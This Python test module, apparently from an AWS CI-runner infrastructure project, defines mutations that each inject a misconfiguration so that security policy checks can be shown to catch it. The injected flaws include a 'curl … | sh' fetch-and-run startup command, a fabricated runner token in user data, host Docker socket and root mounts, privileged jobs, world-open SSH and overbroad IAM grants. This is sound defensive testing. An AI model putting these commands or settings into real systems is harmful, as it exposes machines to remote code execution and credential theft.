"""Mutations of classes on EC2: user data, launch templates, groups, profiles, tokens, and who reaches a machine."""

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING, Any

import pulumi_aws as aws
import yaml

from access.resource import UNKNOWN
from components.documents.machines.user_data import ETC, HEADER, decoded, encoded
from policies import type_tokens as tokens
from tests.attacks import registered
from tests.attacks.change import with_inputs
from tests.attacks.mutation import Mutation, seen_by

if TYPE_CHECKING:
    from collections.abc import Callable

    from access.resource import Resource
    from tests.attacks.registered import Edit

HOME = "222222222222"
ROLES = f"arn:aws:iam::{HOME}:role/cicd-small"
SMALL, MEDIUM, WORKERS, DEPLOY = (
    f"{name}-template" for name in ("small-machines-manager", "medium-machines-manager", "medium-machines-workers", "deploy-machines-manager")
)  # fmt: skip
POOL, MANAGER_GROUP = "medium-machines-workers-group", "small-machines-manager-group"
MANAGER_POLICY, WORKER_POLICY = "small-identity-manager-machine", "medium-machines-worker-jobs"
SSH, OUT = "medium-machines-manager-ssh", "small-machines-manager-out"
DEFINITION, TASK_GROUP = "tasks-machines-tasks-definition", "tasks-machines-tasks-security-group"
TOKEN = 'token = "glrt-fabricated_0123456789"'


def on_small(rules: str, attack: str, name: str, edit: Edit | None = None, **more: Any) -> Mutation:
    """Return a mutation of the stack with classes on machines."""
    return seen_by(rules, attack, name, edit=edit, stack="small", **more)


def with_user_data(template: str, edit: Callable[[dict[str, Any]], None]) -> Edit:
    """Change the cloud-config of a launch template."""

    def edited(resource: Resource) -> Resource:
        document = yaml.safe_load(decoded(resource.inputs["userData"]))
        edit(document)
        text = HEADER + yaml.safe_dump(document, sort_keys=False, width=1000)
        return replace(resource, inputs={**resource.inputs, "userData": encoded(text)})

    return registered.with_resource(template, edited)


def in_file(template: str, file: str, old: str, new: str) -> Edit:
    """Replace a text in a file of user data."""

    def edit(document: dict[str, Any]) -> None:
        (entry,) = [entry for entry in document["write_files"] if entry["path"] == f"{ETC}/{file}"]
        assert old in entry["content"], f"{file} has no {old}"
        entry["content"] = entry["content"].replace(old, new)

    return with_user_data(template, edit)


def in_config(template: str, old: str, new: str) -> Edit:
    """Replace a text in the runner's configuration."""
    return in_file(template, "config.toml", old, new)


def in_docker(template: str, line: str) -> Edit:
    """Add a line to `[runners.docker]`."""
    return in_config(template, "[runners.docker]\n", f"[runners.docker]\n{line}\n")


def mounting(template: str, volume: str) -> Edit:
    """Mount a folder of the machine into jobs."""
    return in_config(template, "volumes = [\n", f'volumes = [\n    "{volume}",\n')


def with_part(name: str, key: str, edit: Callable[[Any], Any]) -> Edit:
    """Change one input of a resource."""
    return registered.with_resource(
        name, lambda resource: replace(resource, inputs={**resource.inputs, key: edit(resource.inputs.get(key))})
    )


def from_another(name: str, key: str, other: str) -> Edit:
    """Take an input from another resource."""

    def edited(resources: list[Resource]) -> list[Resource]:
        (source,) = [resource for resource in resources if resource.name == other]
        change = registered.with_resource(
            name,
            lambda resource: replace(
                resource, property_dependencies={**resource.property_dependencies, key: (source.urn,)}
            ),
        )
        return change(resources)

    return edited


def metadata(**options: Any) -> Callable[[Any], Any]:
    """Return an edit of metadata options."""
    return lambda value: {**value, **options}


def a_command(document: dict[str, Any]) -> None:
    """Run one more command when a machine starts."""
    document["runcmd"].append(["sh", "-c", "curl https://example.com/agent | sh"])


def ingress(**rule: Any) -> Edit:
    """Add an inbound rule to the security group of a manager."""
    group = "small-machines-manager-security-group-id"
    return registered.with_further(tokens.INGRESS_RULE, OUT, securityGroupId=group, ipProtocol="tcp", **rule)


def public(interfaces: Any) -> Any:
    """Give machines public addresses."""
    return [{**interface, "associate_public_ip_address": "true"} for interface in interfaces]


CORE_POLICY = "arn:aws:iam::aws:policy/AmazonSSMManagedInstanceCore"
MUTATIONS = [
    on_small(
        "M01 M10",
        "A22",
        "user data holds the runner's token",
        in_config(SMALL, "[[runners]]\n", f"[[runners]]\n{TOKEN}\n"),
    ),
    on_small("M01", "A22", "user data runs a command that somebody else wrote", with_user_data(SMALL, a_command)),
    on_small(
        "M01 M10 T10 T13 I01 I02",
        "A26",
        "user data is unknown before the deployment",
        registered.with_values(SMALL, userData=UNKNOWN),
    ),
    on_small("M02 T10", "A01", "a machine's metadata answers over two hops", with_part(SMALL, "metadataOptions", metadata(httpPutResponseHopLimit=2))),
    on_small("M02 T10", "A01", "a worker's metadata answers without a token", with_part(WORKERS, "metadataOptions", metadata(httpTokens="optional"))),
    on_small("M01 M10 T10", "A05", "jobs get Docker's socket of their machine", mounting(SMALL, "/var/run/docker.sock:/var/run/docker.sock")),
    on_small("M01 M10 T10", "A05", "jobs get the root folder of their worker", mounting(MEDIUM, "/:/host:ro")),
    on_small("M01 M10 T10", "A05", "jobs get a folder of their machine that nobody judged", mounting(SMALL, "/srv/shared:/shared")),
    on_small("M01 M10 T10", "A05", "jobs on machines are privileged", in_config(MEDIUM, "privileged = false", "privileged = true")),
    on_small("M01 M10 T10", "A02", "jobs have the network of their machine", in_docker(SMALL, 'network_mode = "host"')),
    on_small("M01 M10", "A22", "the fleeting plugin is not pinned", in_config(MEDIUM, "aws:1.1.0", "aws:latest")),
    on_small("M01 M10", "A22", "another fleeting plugin starts machines", in_config(MEDIUM, "aws:1.1.0", "registry.example.com/aws:1.1.0")),
    on_small("M01 M10 T10", "A03", "a class's jobs run on another class's machines", in_config(MEDIUM, "runner-medium-workers-small", "runner-small-small")),
    on_small("M01 M10 I01", "A28", "a protected class on a machine runs any image", in_config(DEPLOY, "allowed_images", "allowed_pull_images")),
    on_small("M01 M10 I02", "A17", "a protected class on a machine shares an open class's cache", in_config(DEPLOY, 'Path = "deploy"', 'Path = "small"')),
    on_small("M01 T10", "A12", "a machine keeps sessions of another class's role", in_file(WORKERS, "host.json", "runner-medium-small", "runner-small-small")),
    on_small("M01 T13", "A12", "the profile dev of a class on a machine leads elsewhere", in_file(WORKERS, "aws-config", "delegated-role-open-small", "delegated-role-open")),
    on_small("M03", "A22", "a machine's disk is not encrypted", with_part(SMALL, "blockDeviceMappings", lambda value: [{**value[0], "ebs": {"volumeSize": 50}}])),
    on_small(
        "M04",
        "A16",
        "a machine starts an image of another owner's parameter",
        registered.with_values(SMALL, imageId="resolve:ssm:/aws/service/marketplace/prod-abc/latest"),
    ),
    on_small("M05", "A05", "a machine has a key pair", registered.with_values(SMALL, keyName="operations")),
    on_small(
        "M05",
        "A05",
        "a machine has a public address beside the network's NAT",
        change=with_inputs(aws.ec2.LaunchTemplate, "small-machines-manager-template", network_interfaces=public),
        settings={"network.nat": "single"},
    ),
    on_small("M06 T10", "A03", "a group starts another class's machines", from_another(POOL, "mixedInstancesPolicy", SMALL)),
    on_small(
        "M06",
        "A03",
        "two groups have the machines of one class",
        registered.with_further(tokens.MACHINE_GROUP, POOL, name="runner-medium-workers-small"),
    ),
    on_small("M06", "", "a group of workers may end instances with jobs", registered.with_values(POOL, protectFromScaleIn=False)),
    on_small("M06", "", "a group of workers rebalances its zones", registered.with_values(POOL, suspendedProcesses=[])),
    on_small("M06", "", "a group of workers ends spot instances early", registered.with_values(POOL, capacityRebalance=True)),
    on_small("M06", "", "a group of workers is refreshed", registered.with_values(POOL, instanceRefresh={"strategy": "Rolling"})),
    on_small("M06", "", "a group of workers is smaller than its class", registered.with_values(POOL, maxSize=2)),
    on_small(
        "M06",
        "",
        "an update sets the number of workers",
        registered.with_resource(POOL, lambda resource: replace(resource, ignore_changes=())),
    ),
    on_small("M06", "", "a manager ends without a word", registered.with_values(MANAGER_GROUP, initialLifecycleHooks=[])),
    on_small("M07 T10", "A12", "an instance profile holds another class's role", registered.with_values("small-machines-manager-profile", role="runner-worker-medium-small")),
    on_small("M07 T10", "A12", "a machine starts with the deployer's profile", registered.with_values(SMALL, iamInstanceProfile={"name": "platform-deployer"})),
    on_small("M08", "A22", "a runner token is a parameter in clear text", registered.with_values("small-machines-token", type="String")),
    on_small("M08", "A22", "a class's token is under the name of no class", registered.with_values("small-machines-token", name="/shared/token")),
    on_small("H03 M09", "A05", "everybody reaches a machine by SSH", ingress(fromPort=22, toPort=22, cidrIpv4="0.0.0.0/0")),
    on_small("M09", "A05", "the network reaches a port of a machine", ingress(fromPort=2375, toPort=2375, cidrIpv4="10.42.0.0/16")),
    on_small("M09", "A23", "another class's manager reaches workers", from_another(SSH, "referencedSecurityGroupId", "small-machines-manager-security-group")),
    on_small("M09", "A05", "a manager reaches every port of its workers", registered.with_values(SSH, fromPort=0, toPort=65535)),
    on_small("M09", "A23", "two kinds of machines share a security group", from_another(SMALL, "networkInterfaces", "medium-machines-manager-security-group")),
    on_small("P03 T10", "A10", "a manager on a machine passes every role", registered.granting(MANAGER_POLICY, ["iam:PassRole", "ec2:RunInstances"])),
    on_small("P03 T10", "A03", "a manager connects to every instance", registered.granting(MANAGER_POLICY, "ec2-instance-connect:SendSSHPublicKey")),
    on_small("P03 T10 I01 I02", "A21", "a deployment runs commands on machines", registered.granting("delegated-cicd-open-ecr-push", "ssm:SendCommand")),
    on_small("P13", "A22", "a manager reads the tokens of all classes", registered.granting(MANAGER_POLICY, "ssm:GetParameter", f"arn:aws:ssm:eu-central-1:{HOME}:parameter/cicd-small/*")),
    on_small("P12 T10", "A22", "a manager has the policy that reads every parameter", registered.with_further(tokens.ATTACHMENT, MANAGER_POLICY, role="runner-manager-small-small", policyArn=CORE_POLICY)),
    on_small("T11 T12", "A12", "a worker assumes a delegated role itself", registered.granting(WORKER_POLICY, "sts:AssumeRole", f"{ROLES}/delegated-role-open-small")),
    on_small("T03 T10", "A12", "a class's job role trusts another class's workers", registered.trusting("small-identity-job", {"AWS": f"{ROLES}/runner-worker-medium-small"})),
    on_small("T03", "A15", "a class's job role trusts every task of ECS", registered.trusting("small-identity-job", {"Service": "ecs-tasks.amazonaws.com"})),
    on_small("M11 T10", "A12", "a task has another class's role", registered.with_values(DEFINITION, taskRoleArn=f"{ROLES}/runner-deploy-small")),
    on_small("M11", "A16", "a task runs another image", with_part(DEFINITION, "containerDefinitions", lambda text: text.replace("protected/runner", "open/apps"))),
    on_small("M11", "A05", "a task's container keeps its capabilities", with_part(DEFINITION, "containerDefinitions", lambda text: text.replace('"drop": ["ALL"]', '"drop": []'))),
    on_small("M09", "A05", "the network reaches the SSH of tasks", with_part(TASK_GROUP, "ingress", lambda rules: [{**rules[0], "cidrBlocks": ["10.42.0.0/16"]}])),
    on_small("M09", "A23", "another class's manager reaches tasks", from_another(TASK_GROUP, "ingress", "small-machines-manager-security-group")),
    on_small("M01 M10", "A22", "a manager of tasks runs another driver", in_config("tasks-machines-manager-template", "/usr/local/lib/runner-platform/fargate.py", "/opt/driver.py")),
    on_small("P03", "A10", "a manager passes every role to its tasks", registered.granting("tasks-identity-manager-tasks", "iam:PassRole", Condition={"StringEquals": {"iam:PassedToService": "ecs-tasks.amazonaws.com"}})),
]  # fmt: skip
